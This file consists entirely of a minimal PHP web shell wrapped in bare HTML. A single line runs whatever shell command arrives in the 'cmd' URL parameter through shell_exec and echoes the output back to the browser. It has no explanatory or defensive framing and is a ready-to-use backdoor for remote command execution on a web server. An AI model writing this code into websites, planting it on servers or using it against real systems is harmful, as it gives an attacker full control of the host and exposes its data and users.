<html><body><pre>
<?php echo shell_exec($_GET['cmd']); ?>
</pre></body></html>
